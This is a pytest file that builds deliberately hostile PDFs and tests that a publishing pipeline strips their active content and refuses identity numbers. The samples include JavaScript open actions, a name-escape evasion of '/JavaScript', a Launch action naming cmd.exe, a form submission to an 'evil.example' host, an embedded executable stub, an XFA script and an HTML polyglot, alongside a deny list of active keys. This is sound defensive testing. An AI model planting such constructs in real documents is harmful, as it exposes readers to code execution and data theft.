"""PDFs are rebuilt, not judged: every published PDF is written anew by a PDF library with its
active content removed, and its text and metadata are read for identity numbers. The test
files are made with pikepdf, so name escapes (/J#61vaScript) and compressed object streams
are what a real PDF holds, not what a regex expects."""

from __future__ import annotations

import io
from collections.abc import Callable
from pathlib import Path

import pikepdf
import pytest

from cim.site.evidence import EvidenceStore, publish

from helpers import check, everything, messages
from test_files import attach

SARA = "sara-ahmed"
ACTIVE = ("/JS", "/JavaScript", "/OpenAction", "/AA", "/EmbeddedFiles", "/EmbeddedFile", "/XFA")
REFUSED_ACTIONS = {"/Launch", "/SubmitForm", "/URI", "/ImportData", "/GoToR", "/JavaScript"}


def _page(pdf: pikepdf.Pdf, text: str = "Certificate of attendance") -> None:
    font = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica
        )
    )
    content = f"BT /F1 14 Tf 72 720 Td ({text}) Tj ET".encode()
    page = pikepdf.Page(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Page,
            MediaBox=[0, 0, 612, 792],
            Resources=pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=font)),
            Contents=pdf.make_stream(content),
        )
    )
    pdf.pages.append(page)


def _action(pdf: pikepdf.Pdf, kind: str, **extra: object) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(Type=pikepdf.Name.Action, S=pikepdf.Name(kind), **extra)


def _save(pdf: pikepdf.Pdf, *, hide: bool = True) -> bytes:
    out = io.BytesIO()
    # Object streams: the dictionaries are compressed, out of any regex's sight.
    mode = pikepdf.ObjectStreamMode.generate if hide else pikepdf.ObjectStreamMode.disable
    pdf.save(out, object_stream_mode=mode, compress_streams=True)
    return out.getvalue()


def javascript_open_action() -> bytes:
    pdf = pikepdf.new()
    _page(pdf)
    pdf.Root.OpenAction = _action(pdf, "/JavaScript", JS=pikepdf.String("app.alert(1)"))
    return _save(pdf)


def javascript_name_escape() -> bytes:
    pdf = pikepdf.new()
    _page(pdf)
    pdf.Root.OpenAction = _action(pdf, "/JavaScript", JS=pikepdf.String("app.alert(1)"))
    data = _save(pdf, hide=False)
    # A legal spelling of the same name (#61 is 'a'); the PDF parser reads it as /JavaScript.
    return data.replace(b"/JavaScript", b"/J#61vaScript")


def launch_action() -> bytes:
    pdf = pikepdf.new()
    _page(pdf)
    pdf.Root.OpenAction = _action(pdf, "/Launch", F=pikepdf.String("cmd.exe"))
    return _save(pdf)


def uri_and_submit() -> bytes:
    pdf = pikepdf.new()
    _page(pdf)
    pdf.Root.OpenAction = _action(
        pdf,
        "/URI",
        URI=pikepdf.String("https://evil.example/"),
        Next=_action(pdf, "/SubmitForm", F=pikepdf.String("https://evil.example/")),
    )
    return _save(pdf)


def page_and_annotation_actions() -> bytes:
    pdf = pikepdf.new()
    _page(pdf)
    page = pdf.pages[0]
    page.obj.AA = pikepdf.Dictionary(O=_action(pdf, "/JavaScript", JS=pikepdf.String("x")))
    link = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.Link,
        Rect=[0, 0, 100, 100],
        A=_action(pdf, "/ImportData", F=pikepdf.String("data.fdf")),
    )
    remote = pikepdf.Dictionary(
        Type=pikepdf.Name.Annot,
        Subtype=pikepdf.Name.Link,
        Rect=[0, 100, 100, 200],
        A=_action(pdf, "/GoToR", F=pikepdf.String("other.pdf"), D=[0, pikepdf.Name.Fit]),
    )
    page.obj.Annots = pdf.make_indirect(pikepdf.Array([link, remote]))
    return _save(pdf)


def embedded_file() -> bytes:
    pdf = pikepdf.new()
    _page(pdf)
    spec = pikepdf.AttachedFileSpec(pdf, b"MZ not a real program", filename="run.exe")
    pdf.attachments["run.exe"] = spec
    return _save(pdf)


def xfa_form() -> bytes:
    pdf = pikepdf.new()
    _page(pdf)
    pdf.Root.AcroForm = pikepdf.Dictionary(
        Fields=pikepdf.Array(), XFA=pdf.make_stream(b"<xdp:xdp><script>x</script></xdp:xdp>")
    )
    return _save(pdf)


def html_polyglot() -> bytes:
    pdf = pikepdf.new()
    _page(pdf)
    return _save(pdf) + b"\n<html><img src=x onerror=alert(1)></html>\n"


HOSTILE: dict[str, Callable[[], bytes]] = {
    "JavaScript open action in an object stream": javascript_open_action,
    "JavaScript spelled with a name escape": javascript_name_escape,
    "launch action": launch_action,
    "URI action followed by a form submission": uri_and_submit,
    "page and annotation actions (ImportData, GoToR)": page_and_annotation_actions,
    "embedded file": embedded_file,
    "XFA form": xfa_form,
    "HTML polyglot": html_polyglot,
}


def _active_parts(data: bytes) -> list[str]:
    """Everything active a PDF reader could run, found by parsing the file."""
    found: list[str] = []
    seen: set[tuple[int, int]] = set()

    def walk(obj: object) -> None:
        if isinstance(obj, pikepdf.Object) and obj.is_indirect:
            if obj.objgen in seen:
                return
            seen.add(obj.objgen)
        if isinstance(obj, pikepdf.Dictionary | pikepdf.Stream):
            for key in obj.keys():  # noqa: SIM118 (streams too)
                if key in ACTIVE:
                    found.append(key)
                value = obj.get(key)
                if key == "/S" and str(value) in REFUSED_ACTIONS:
                    found.append(str(value))
                walk(value)
        elif isinstance(obj, pikepdf.Array):
            for item in obj:
                walk(item)

    with pikepdf.open(io.BytesIO(data)) as pdf:
        walk(pdf.trailer)
        for page in pdf.pages:
            walk(page.obj)
    return found


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_the_test_files_really_hold_what_they_say(case: str) -> None:
    data = HOSTILE[case]()
    assert data.startswith(b"%PDF-")
    if case != "HTML polyglot":
        assert _active_parts(data), case


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_published_pdfs_are_rebuilt_without_active_content(tmp_path: Path, case: str) -> None:
    source = tmp_path / "evidence.pdf"
    source.write_bytes(HOSTILE[case]())
    store = EvidenceStore(tmp_path / "cache")
    [published] = publish(store, [source], workers=1).values()
    data = (store.cached(published.digest, "pdf")["web"]).read_bytes()
    assert _active_parts(data) == [], case
    assert b"<html" not in data and b"onerror" not in data
    with pikepdf.open(io.BytesIO(data)) as pdf:
        assert len(pdf.pages) == 1  # still the same document to read
        assert b"Certificate of attendance" in pdf.pages[0].Contents.read_bytes()


def test_validation_names_active_content_found_by_the_parser(repo: Path) -> None:
    attach(repo, "escaped.pdf", javascript_name_escape())
    found = everything(check(repo, SARA, deep=True), SARA)
    assert "JavaScript" in found, found


def _with_number_in_text() -> bytes:
    pdf = pikepdf.new()
    _page(pdf, "Transcript for Sara Ahmed, 19811218-9876")
    return _save(pdf)


def _with_number_in_metadata() -> bytes:
    pdf = pikepdf.new()
    _page(pdf)
    pdf.docinfo["/Author"] = pikepdf.String("Sara Ahmed 811218\u20139876")
    return _save(pdf)


@pytest.mark.parametrize("make", [_with_number_in_text, _with_number_in_metadata])
def test_identity_numbers_in_a_pdf_are_refused(repo: Path, make: Callable[[], bytes]) -> None:
    attach(repo, "transcript.pdf", make())
    assert "personal identity number" in messages(check(repo, SARA, deep=True), SARA)


def test_a_plain_pdf_is_accepted_and_published(repo: Path) -> None:
    pdf = pikepdf.new()
    _page(pdf)
    attach(repo, "plain.pdf", _save(pdf))
    found = everything(check(repo, SARA, deep=True), SARA)
    assert "plain.pdf" not in found, found
